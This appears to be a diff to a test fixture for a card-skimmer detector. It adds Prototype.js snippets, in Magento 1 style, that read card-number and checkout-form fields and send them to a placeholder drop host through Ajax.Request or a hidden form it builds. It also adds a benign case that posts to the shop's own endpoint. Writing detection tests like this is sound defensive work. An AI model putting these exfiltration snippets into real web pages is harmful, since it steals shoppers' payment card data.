@@ -171,6 +171,20 @@ FLOWS = {
     "through a static method of the script's class": (
         "class U { static v(el) { return el.value; } }\n"
         f"navigator.sendBeacon('{DROP}', U.v(document.querySelector('#cc_number')));"),
+    # Prototype, as Magento 1 shops ship it: `$F`, `Form.getElements`, `Ajax.Request`, and a
+    # form built with `new Element` and filled with `insert`
+    "Prototype Ajax.Request": (
+        f"new Ajax.Request('{DROP}', {{method: 'post', "
+        "parameters: {d: btoa($F('authorizenet_cc_number'))}});"),
+    "Prototype form fields to Ajax.Request": (
+        "var data = {};\n"
+        "Form.getElements($('co-payment-form')).each(function (el) { data[el.name] = $F(el); });\n"
+        f"new Ajax.Request('{DROP}', {{parameters: {{d: Object.toJSON(data)}}}});"),
+    "Prototype form built with new Element": (
+        f"var form = new Element('form', {{method: 'post', action: '{DROP}'}});\n"
+        "form.insert(new Element('input', {type: 'hidden', name: 'c', "
+        "value: $F('authorizenet_cc_number')}));\n"
+        "$(document.body).insert(form); form.submit();"),
     "form sweep": f"var d = [];\n"
                   f"document.querySelectorAll('input, select').forEach(function (i) "
                   f"{{ d.push(i.value); }});\n"
@@ -270,6 +284,9 @@ NO_FLOWS = {
         "frame.src = 'https://js.stripe.com/v3/elements-inner-card.html';\n"
         "document.body.appendChild(frame);\n"
         "frame.contentWindow.postMessage({n: document.querySelector('#cc_number').value}, '*');"),
+    "Prototype Ajax.Request to the shop": (
+        "new Ajax.Request('/checkout/onepage/savePayment/', {method: 'post', "
+        "parameters: Form.serialize($('co-payment-form'))});"),
     "processor": "fetch('https://api.stripe.com/v1/tokens', {method: 'POST', "
                  "body: 'card[number]=' + document.querySelector('#cc_number').value});",
 }
